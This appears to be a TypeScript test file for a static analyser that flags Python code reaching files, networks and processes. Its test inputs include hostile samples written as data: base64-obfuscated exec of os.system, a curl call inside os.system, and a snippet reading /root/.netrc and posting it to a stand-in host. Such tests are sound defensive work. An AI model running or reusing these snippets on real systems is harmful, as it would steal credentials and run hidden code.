import assert from 'node:assert/strict';
import { analyse } from '../facts';

const python = (text: string) => analyse('python', text);
const referencesOf = (text: string) => python(text).references.map(({ how, path }) => `${how} ${path}`);

describe('Python: files of the same extension', () => {
	const cases: readonly (readonly [code: string, references: readonly string[]])[] = [
		['import helper', ['import helper.py']],
		['import lib.tools as t', ['import lib/tools.py']],
		['from lib import tools', ['import lib.py']],
		['from .a.b import c', ['import a/b.py']],
		['from ..a import b', ['import ../a.py']],
		['from . import a, b', ['import a.py', 'import b.py']],
		['import os, json, requests', []],
		['import importlib\nimportlib.import_module("helper")', ['import helper.py']],
		['open("data/x.json")', ['read data/x.json']],
		['open("/etc/hosts"); open("~/x")', []],
		['from pathlib import Path\n(Path(__file__).parent / "x.json").read_text()', ['read x.json']],
		['import subprocess\nsubprocess.run(["python3", "scripts/x.py", "-v"])', ['run scripts/x.py']],
		['import subprocess\nsubprocess.run(["./run.sh"])', ['run run.sh']],
		['import runpy\nrunpy.run_path("x.py")', ['read x.py', 'run x.py']],
	];
	for (const [code, expected] of cases) it(code, () => assert.deepEqual(referencesOf(code), expected));
});

describe('Python: constants', () => {
	it('are those of the module that name something outside', () => {
		const { constants } = python(
			'URL = "https://a.example/x"\nHOME = "~/.aws"\nHOST = "a.example"\nNAME = "plain"\nN = 1\nV = "1.2.3"\nBLOB = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo"\nALL = "https://a.example/x" + "/y"\ndef f():\n  INNER = "https://b.example"\nopen(URL)',
		);
		assert.deepEqual(
			constants.map(({ name, value }) => [name, value]),
			[
				['URL', 'https://a.example/x'],
				['HOME', '~/.aws'],
				['HOST', 'a.example'],
				['BLOB', 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo'],
				['ALL', 'https://a.example/x/y'],
			],
		);
	});
});

describe('Python: places and reasons', () => {
	it('code in a literal has its own place', () => {
		const text = 'import os\nos.system("cd /tmp && curl -s https://a.example/x")';
		const use = python(text).uses.find(({ kind }) => kind === 'network');
		assert.ok(use !== undefined);
		assert.ok(text.slice(use.range.start, use.range.end).includes('https://a.example/x'));
		assert.ok(use.range.start > text.indexOf('cd /tmp'));
	});

	it('decoded code has the place of what was encoded, and says how', () => {
		const text = 'import base64\nexec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))';
		const use = python(text).uses.find(({ kind }) => kind === 'process');
		assert.deepEqual(use?.via, ['base64']);
		assert.equal(text.slice(use?.range.start, use?.range.end), text.slice(text.indexOf('base64.b64'), -1));
	});

	it('a flow shows every hop', () => {
		const text =
			'import requests\nkey = open("/root/.netrc").read()\ndata = {"k": key}\nrequests.post("https://a.example", json=data)';
		const [flow] = python(text).flows;
		assert.deepEqual(
			flow?.steps.map(({ what }) => what),
			['reads ~/.netrc', 'kept in `key`', 'sent by requests.post'],
		);
		assert.deepEqual(
			flow?.steps.map(({ range }) => text.slice(range.start, range.end)),
			[
				'"/root/.netrc"',
				'key = open("/root/.netrc").read()',
				'requests.post("https://a.example", json=data)',
			],
		);
	});

	it('decoding stops at the depth allowed', () => {
		const inner = Buffer.from(
			'import base64;exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=="))',
		).toString('base64');
		const text = `import base64\nexec(base64.b64decode("${inner}"))`;
		assert.ok(analyse('python', text, 2).uses.some(({ kind }) => kind === 'process'));
		const shallow = analyse('python', text, 1);
		assert.ok(!shallow.uses.some(({ kind }) => kind === 'process'));
		assert.equal(shallow.unparsed.length, 1);
	});

	it('text that is no code is said to be unknown', () => {
		const [part, ...rest] = python(
			'import os\nos.system("id")\n] ] ) } this is not ( python at ] all = = ) ) ]\n',
		).unparsed;
		assert.ok(part !== undefined && rest.length === 0);
		assert.match(part.reason, /not valid code/i);
	});

	it('Python 2 is read', () => {
		const text =
			'import os\nprint "a", 1\ntry:\n  os.system("id")\nexcept OSError, e:\n  print e\nraise ValueError, "x"';
		assert.deepEqual(python(text).unparsed, []);
		assert.equal(python(text).uses.length, 1);
	});

	it('a variable that goes along in a header is less than one in the body', () => {
		const sent = (where: string) =>
			python(`import os, requests\nrequests.post("https://a.example", ${where})`).flows[0]?.confidence;
		assert.equal(sent('headers={"Authorization": os.environ["A_TOKEN"]}'), 'low');
		assert.equal(sent('json={"t": os.environ["A_TOKEN"]}'), 'high');
	});
});
